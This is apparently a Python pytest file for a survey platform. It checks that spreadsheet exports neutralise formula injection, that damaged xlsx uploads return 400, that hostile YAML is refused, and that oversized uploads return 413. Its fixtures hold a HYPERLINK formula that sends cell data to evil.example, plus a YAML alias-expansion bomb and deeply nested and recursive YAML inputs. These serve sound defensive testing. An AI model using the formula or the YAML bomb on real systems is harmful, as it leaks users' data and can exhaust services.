"""Spreadsheets hold text as text; every upload problem is a plain 400 (or 413), never a 500."""
import copy
import io
import zipfile
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from engage.definitions.safe_yaml import YAMLProblem, load_untrusted
from engage.definitions.xlsform import ImportOptions, import_xlsform
from engage.definitions.xlsform_export import export_xlsform
from tests.conftest import csrf_token
from tests.workspace.factories import sign_in_as

SHIPPED = yaml.safe_load(Path("surveys/annual-young-people.yaml").read_text(encoding="utf-8"))
TRAP = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _with_trap_wordings() -> dict:
    definition = copy.deepcopy(SHIPPED)
    item = definition["pages"][0]["items"][0]
    item["text"] = {variant: TRAP for variant in item["text"]}
    return definition


def test_xlsform_download_writes_a_formula_wording_as_text_and_reads_it_back_unchanged():
    data = export_xlsform(_with_trap_wordings())
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no live formula anywhere in the survey sheet
    cells = [c for row in load_workbook(io.BytesIO(data))["survey"].iter_rows() for c in row if c.value == TRAP]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    imported = import_xlsform(data, ImportOptions(filename="trap.xlsx"))
    assert imported.definition["pages"][0]["items"][0]["text"] == _with_trap_wordings()["pages"][0]["items"][0]["text"]


def _damaged(part: str) -> bytes:
    good = export_xlsform(SHIPPED)
    source, out = zipfile.ZipFile(io.BytesIO(good)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            body = source.read(info.filename)
            target.writestr(info, body[: len(body) // 2] if info.filename == part else body)
    return out.getvalue()


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml",
                                  "[Content_Types].xml"])
def test_a_damaged_xlsform_upload_gets_a_plain_400(client, world, part):
    sign_in_as(client, world.users["admin"])
    page = client.get("/workspace/surveys/import-xlsform")
    result = client.post("/workspace/surveys/import-xlsform", content_type="multipart/form-data",
                         data={"csrf_token": csrf_token(page.text), "file": (io.BytesIO(_damaged(part)), "f.xlsx")})
    assert result.status_code == 400
    assert "cannot be read" in result.text or "not an Excel workbook" in result.text


DEEP = "a: " + "[" * 3000 + "]" * 3000
BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 10)}]\n" for n in range(8))
LOOP = "a: &a [1, *a]\n"


@pytest.mark.parametrize("text, reason", [(DEEP, "nested more than"), (BOMB, "more than 200,000 values"),
                                          (LOOP, "nested more than"), ("a: [", "not valid YAML")])
def test_hostile_yaml_is_refused_with_a_reason(text, reason):
    with pytest.raises(YAMLProblem, match=reason):
        load_untrusted(text)


@pytest.mark.parametrize("text", [DEEP, BOMB, LOOP])
def test_hostile_yaml_upload_gets_a_plain_400(client, world, text):
    sign_in_as(client, world.users["officer"])
    page = client.get("/workspace/surveys/import")
    result = client.post("/workspace/surveys/import", content_type="multipart/form-data",
                         data={"csrf_token": csrf_token(page.text), "file": (io.BytesIO(text.encode()), "s.yaml")})
    assert result.status_code == 400 and "The file cannot be read" in result.text


def test_hostile_yaml_in_the_other_settings_box_is_refused_plainly():
    from engage.forms.yaml_settings import parse_settings

    with pytest.raises(ValueError, match="cannot be read: it is nested"):
        parse_settings(DEEP, ("text",))


def test_an_upload_over_the_size_limit_gets_a_plain_413(client, world):
    sign_in_as(client, world.users["officer"])
    page = client.get("/workspace/surveys/import")
    body = f"csrf_token={csrf_token(page.text)}&text=".encode() + b"a:+b%0A" * 200_000
    result = client.post("/workspace/surveys/import", data=body,
                         content_type="application/x-www-form-urlencoded")
    assert result.status_code == 413 and "bigger than 1 MB" in result.text
